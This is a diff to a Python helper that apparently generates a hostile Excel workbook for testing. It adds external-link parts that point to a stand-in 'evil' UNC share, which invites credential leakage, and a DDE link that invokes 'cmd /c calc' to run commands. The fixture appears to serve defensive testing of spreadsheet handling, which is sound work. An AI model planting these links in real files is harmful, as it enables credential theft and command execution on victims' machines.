@@ -145,12 +145,11 @@ def _links(code: str) -> bytes:
         '<externalReferences><externalReference r:id="rIdX1"/><externalReference r:id="rIdX2"/></externalReferences>'
     )
     target = "file:///\\\\evil\\share\\x.xlsx"
-    book.extra["xl/externalLinks/_rels/externalLink1.xml.rels"] = relations(
-        [("rId1", "externalLinkPath", target)], "External"
-    )
+    elsewhere = relations([("rId1", "externalLinkPath", target)], "External")
     for number, link in enumerate(('<externalBook r:id="rId1"/>', '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'), 1):
         xml = f'{HEAD}<externalLink xmlns="{MAIN}" xmlns:r="{OFFICE}">{link}</externalLink>'
         book.extra[f"xl/externalLinks/externalLink{number}.xml"] = xml
+        book.extra[f"xl/externalLinks/_rels/externalLink{number}.xml.rels"] = elsewhere
     return book.made()
 
 
